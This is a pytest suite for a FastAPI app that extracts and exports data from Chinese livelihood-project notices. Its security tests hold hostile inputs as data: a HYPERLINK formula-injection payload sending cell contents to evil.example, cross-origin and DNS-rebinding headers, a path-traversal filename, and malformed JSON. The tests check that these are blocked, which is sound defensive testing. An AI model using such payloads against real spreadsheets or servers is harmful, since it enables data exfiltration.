"""The paste page's JSON API, through FastAPI's TestClient (no network, no browser)."""
from __future__ import annotations

import csv
import io
import json
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from pipeline.web.app import create_app

SAMPLES = Path(__file__).resolve().parent.parent / "samples"
SEED_004 = SAMPLES / "txt" / "004_c24871eb355e82a1.txt"
DOCX_000 = SAMPLES / "docx" / "000_98d808fb349556f5.docx"
SCHEMA = Path("/work/shared/contract/extraction.schema.json")
LOCAL = "http://127.0.0.1:8000"


@pytest.fixture(scope="module")
def client():
    with TestClient(create_app(max_upload=1024 * 1024), base_url=LOCAL) as c:    # a small limit keeps the 413 test cheap
        yield c


@pytest.fixture(scope="module")
def seed004(client):
    r = client.post("/api/extract", json={"text": SEED_004.read_text(encoding="utf-8")})
    assert r.status_code == 200, r.text
    return r.json()


def test_health(client):
    r = client.get("/api/health")
    assert r.status_code == 200
    assert r.json()["status"] == "ok" and r.json()["gazetteer"] is True


def test_page_and_assets_are_served_locally(client):
    page = client.get("/")
    assert page.status_code == 200 and "text/html" in page.headers["content-type"]
    assert "提取" in page.text and "下载Excel" in page.text and "复制Markdown" in page.text
    assert "http://" not in page.text and "https://" not in page.text    # no CDN: works offline
    assert "script-src 'self'" in page.headers["content-security-policy"]
    for asset in ("/static/app.js", "/static/style.css"):
        r = client.get(asset)
        assert r.status_code == 200 and "https://" not in r.text


def test_app_js_never_renders_document_text_as_html(client):
    js = client.get("/static/app.js").text
    for sink in ("innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "eval("):
        assert sink not in js, sink


def test_paste_seed_004(seed004):
    assert seed004["schema"] == "minsheng/1"
    assert seed004["document"]["kind"] == "progress"
    assert seed004["document"]["source"] == "粘贴文本"
    assert len(seed004["projects"]) >= 20
    names = [p["name"] for p in seed004["projects"]]
    assert "实施困难残疾人家庭无障碍改造" in names
    rate = [f for f in seed004["flags"] if f["code"] == "RATE_MISMATCH"]
    assert rate, seed004["flags"]
    assert rate[0]["found"] == 3.3 and "3.3%" in rate[0]["message"]


def test_lines_are_the_text_view_that_evidence_refers_to(seed004):
    lines = seed004["lines"]
    assert lines == SEED_004.read_text(encoding="utf-8").splitlines()[:len(lines)]
    for item in seed004["projects"] + seed004["flags"]:
        ev = item["evidence"]
        if ev.get("line"):
            assert ev["text"].replace(" ", "")[:10] in lines[ev["line"] - 1].replace(" ", ""), ev


def test_answer_validates_against_the_contract(seed004):
    jsonschema = pytest.importorskip("jsonschema")
    if not SCHEMA.exists():
        pytest.skip("shared contract not on this machine")
    jsonschema.validate(seed004, json.loads(SCHEMA.read_text(encoding="utf-8")))


def test_upload_docx(client):
    with DOCX_000.open("rb") as fh:
        r = client.post("/api/extract", files={"file": (DOCX_000.name, fh, "application/octet-stream")})
    assert r.status_code == 200, r.text
    body = r.json()
    assert body["document"]["format"] == "docx" and body["document"]["source"] == DOCX_000.name
    assert len(body["projects"]) >= 5
    assert body["lines"]


def test_upload_name_is_not_a_path(client):
    r = client.post("/api/extract", files={"file": ("../../etc/x.txt", "关于2021年民生实事的通知\n".encode())})
    assert r.status_code == 200 and r.json()["document"]["source"] == "x.txt"


@pytest.mark.parametrize("name, data", [
    ("broken.docx", b"PK\x03\x04 not really a zip"),
    ("broken.pdf", b"%PDF-1.4\n garbage"),
    ("photo.jpg", b"\xff\xd8\xff\xe0" + bytes(range(256)) * 4),
    ("empty.txt", b""),
], ids=["truncated-docx", "corrupt-pdf", "unsupported-jpg", "empty"])
def test_bad_upload_is_400_with_one_line(client, name, data):
    r = client.post("/api/extract", files={"file": (name, data)})
    assert r.status_code == 400, r.text
    message = r.json()["error"]
    assert message and "\n" not in message and "Traceback" not in message
    assert name in message


@pytest.mark.parametrize("kwargs", [
    {"content": b"not json", "headers": {"content-type": "application/json"}},
    {"json": {"txt": "wrong key"}},
    {"json": ["a list"]},
    {"json": {"text": "   "}},
], ids=["not-json", "no-text", "not-object", "blank"])
def test_bad_json_is_400(client, kwargs):
    r = client.post("/api/extract", **kwargs)
    assert r.status_code == 400 and "\n" not in r.json()["error"]


def test_oversize_upload_is_413_in_chinese_and_english(client):
    r = client.post("/api/extract", files={"file": ("big.txt", b"x" * (1024 * 1024 + 10))})
    assert r.status_code == 413
    msg = r.json()["error"]
    assert "文件过大" in msg and "too large" in msg and "1 MB" in msg


def test_oversize_without_content_length_is_413(client):
    def chunks():
        for _ in range(20):
            yield b'{"text": "' + b"x" * 100_000

    r = client.post("/api/extract", content=chunks(), headers={"content-type": "application/json"})
    assert r.status_code == 413


def test_default_limit_is_20_mb():
    with TestClient(create_app(), base_url=LOCAL) as c:
        assert c.get("/api/health").json()["max_upload"] == 20 * 1024 * 1024
        r = c.post("/api/extract", content=b"x", headers={"content-type": "application/json",
                                                         "content-length": str(21 * 1024 * 1024)})
        assert r.status_code == 413


def test_export_xlsx_has_projects_and_flags_sheet(client, seed004):
    r = client.post("/api/export?format=xlsx", json=seed004)
    assert r.status_code == 200
    assert r.headers["content-type"].startswith("application/vnd.openxmlformats")
    assert "attachment" in r.headers["content-disposition"]
    wb = load_workbook(io.BytesIO(r.content))
    assert wb.sheetnames == ["项目", "问题", "文件"]
    assert wb["项目"].max_row - 1 >= len(seed004["projects"])
    flags = list(wb["问题"].iter_rows(min_row=2, values_only=True))
    assert ("完成率对不上", "错误") in [row[1:3] for row in flags]
    assert "RATE_MISMATCH" in [row[-1] for row in flags]


def test_export_csv_opens_in_excel(client, seed004):
    r = client.post("/api/export?format=csv", json=seed004)
    assert r.status_code == 200 and r.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert rows[0][:3] == ["文件", "序号", "项目"]
    assert "状态" in rows[0] and "完成金额(元)" in rows[0]
    assert any("实施困难残疾人家庭无障碍改造" in row for row in rows)


def test_export_markdown_and_from_text(client):
    r = client.post("/api/export?format=markdown", json={"text": SEED_004.read_text(encoding="utf-8")})
    assert r.status_code == 200 and "完成率对不上" in r.text and "RATE_MISMATCH" in r.text and r.text.startswith("### ")


@pytest.mark.parametrize("query, body", [
    ("format=pdf", {"document": {}}),
    ("format=xlsx", {"no": "contract"}),
], ids=["unknown-format", "not-a-contract"])
def test_export_refuses_bad_requests(client, query, body):
    r = client.post(f"/api/export?{query}", json=body)
    assert r.status_code == 400 and r.json()["error"]


def test_50_concurrent_requests(client):
    text = SEED_004.read_text(encoding="utf-8")

    def one(_):
        r = client.post("/api/extract", json={"text": text})
        return r.status_code, len(r.json().get("projects", []))

    with ThreadPoolExecutor(max_workers=50) as pool:
        results = list(pool.map(one, range(50)))
    assert all(code == 200 for code, _ in results), results
    assert len({n for _, n in results}) == 1      # the same answer every time: no shared state leaks


def test_serve_command_defaults_to_localhost():
    from pipeline.cli_serve import serve

    params = {p.name: p.default for p in serve.params}
    assert params["host"] == "127.0.0.1" and params["port"] == 8000 and "db" in params


def test_compare_from_the_store(tmp_path):
    """With `serve --db`, one project type across the store's years and regions."""
    import glob

    from fastapi.testclient import TestClient

    from extractors import extract
    from gazetteer import load
    from pipeline import store
    from pipeline.readers import read
    from pipeline.web.app import create_app

    db = tmp_path / "s.duckdb"
    con = store.connect(db)
    gaz = load()
    store.write_documents(con, [extract(read(f), gaz).to_contract() for f in sorted(glob.glob("samples/txt/*.txt"))])
    con.close()
    with TestClient(create_app(str(db)), base_url=LOCAL) as client:
        assert client.get("/api/health").json()["compare"] is True
        rows = client.get("/api/compare", params={"type": "孕产妇产前筛查"}).json()["rows"]
        assert sorted((r["year"], r["target"], r["unit"]) for r in rows) == [(2017, 8500, "人"), (2019, 3600, "人"),
                                                                            (2021, 16500, "人次")]
        assert client.get("/api/compare", params={"type": "没有这种项目"}).status_code == 400
    with TestClient(create_app(None), base_url=LOCAL) as client:
        assert client.get("/api/compare", params={"type": "x"}).status_code == 404


# ---- issue 16 / 15: safe cells, own origin only, bounded time, clear 400s ----------------------------------

NOTICE = ("关于2022年1-6月全市重点民生实事项目进展情况的通报\n"
          "1、由市残联牵头组织实施的“{name}”项目：全市已完成改造27户，完成年任务6%。\n")
PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"点此查看")', "+1+2", "-3+4", "@SUM(1,2)"]


@pytest.mark.parametrize("payload", PAYLOADS, ids=["hyperlink", "plus", "minus", "at"])
def test_export_never_writes_a_live_formula(client, payload):
    body = client.post("/api/extract", json={"text": NOTICE.format(name=payload + "实施无障碍改造450户")}).json()
    body["projects"][0]["name"] = payload            # whatever the extractor kept, the cell must stay text
    r = client.post("/api/export?format=xlsx", json=body)
    ws = load_workbook(io.BytesIO(r.content))["项目"]
    cells = [c for row in ws.iter_rows(min_row=2) for c in row if c.value == payload]
    assert cells and all(c.data_type == "s" for c in cells)
    r = client.post("/api/export?format=csv", json=body)
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert "'" + payload in rows[1] and payload not in rows[1]


def test_partial_project_is_not_done(client):
    body = client.post("/api/extract", json={"text": NOTICE.format(name="实施无障碍改造450户")}).json()
    assert [g["status"] for g in body["projects"][0]["progress"]] == ["started"]


@pytest.mark.parametrize("headers, status", [
    ({"origin": "http://evil.example"}, 403),
    ({"origin": "null"}, 403),
    ({"sec-fetch-site": "cross-site"}, 403),
    ({"host": "evil.example"}, 403),
    ({"host": "attacker.example:8000", "origin": "http://attacker.example:8000"}, 403),
    ({"origin": LOCAL}, 200),
    ({"sec-fetch-site": "same-origin"}, 200),
], ids=["other-origin", "null-origin", "fetch-cross-site", "other-host", "rebound-dns", "own-origin", "same-origin"])
def test_only_the_pages_own_origin_may_post(client, headers, status):
    r = client.post("/api/extract", json={"text": NOTICE.format(name="实施无障碍改造450户")}, headers=headers)
    assert r.status_code == status, r.text
    if status == 403:
        assert r.json()["error"].startswith("拒绝")


def test_text_plain_is_refused(client):
    r = client.post("/api/extract", content=b'{"text": "x"}', headers={"content-type": "text/plain"})
    assert r.status_code == 415


def test_host_named_by_serve_is_served():
    from pipeline.web.app import allowed_hosts_for

    assert "192.168.1.5" in allowed_hosts_for("192.168.1.5") and "localhost" in allowed_hosts_for("192.168.1.5")
    assert allowed_hosts_for("0.0.0.0") is None
    with TestClient(create_app(allowed_hosts=allowed_hosts_for("192.168.1.5")), base_url="http://192.168.1.5:8000") as c:
        assert c.get("/api/health").status_code == 200


@pytest.mark.parametrize("path, content", [
    ("/api/extract", b"[" * 1000 + b"]" * 1000),
    ("/api/extract", b'{"a":' * 1000 + b"1" + b"}" * 1000),
    ("/api/export?format=xlsx", b"[" * 1000 + b"]" * 1000),
    ("/api/extract", b'{"text": "\\ud800"}'),
    ("/api/export?format=csv", b'{"text": "\\udfff"}'),
], ids=["deep-array", "deep-object", "deep-export", "lone-surrogate", "lone-surrogate-export"])
def test_hostile_json_is_a_clear_400(client, path, content):
    r = client.post(path, content=content, headers={"content-type": "application/json"})
    assert r.status_code == 400 and "\n" not in r.json()["error"]


def test_a_malformed_contract_is_400_not_500(client, seed004):
    bad = dict(seed004, projects=[{"name": ["not", "a", "string"]}])
    r = client.post("/api/export?format=xlsx", json=bad)
    assert r.status_code == 400


def test_random_text_is_not_an_all_clear(client):
    import random

    rng = random.Random(7)
    text = "\n".join("".join(rng.choice("的一是了我不在有这他中大来上国和到说们为道也abcxyz45789") for _ in range(60))
                     for _ in range(200))
    body = client.post("/api/extract", json={"text": text}).json()
    assert body["projects"] == [] and body["unread"]["lines"] > 100


def test_a_document_past_the_time_limit_gets_a_clear_message():
    text = NOTICE.format(name="实施无障碍改造450户") * 6000           # ~700 KB: far past 0.05 s anywhere
    with TestClient(create_app(time_limit=0.05, workers=1), base_url=LOCAL) as c:
        r = c.post("/api/extract", json={"text": text})
        assert r.status_code == 413 and "文档过长" in r.json()["error"] and "请拆分" in r.json()["error"]
        ok = c.post("/api/extract", json={"text": "关于2022年民生实事的通知\n"})     # the worker was replaced
        assert ok.status_code == 200


def test_png_named_pdf_answers_in_chinese_first(client):
    r = client.post("/api/extract", files={"file": ("扫描.pdf", b"\x89PNG\r\n\x1a\n" + bytes(64))})
    assert r.status_code == 400
    msg = r.json()["error"]
    assert msg.startswith("扫描.pdf：这是一张图片") and "PNG" in msg


@pytest.mark.parametrize("path", ["/", "/api/health", "/api/compare?type=x"], ids=["page", "health", "compare"])
def test_a_rebound_host_name_gets_nothing(client, path):
    """DNS rebinding: a page at attacker.example whose name now points at 127.0.0.1 reads nothing, not even GETs."""
    r = client.get(path, headers={"host": "attacker.example:8000"})
    assert r.status_code == 403 and "拒绝访问" in r.json()["error"]
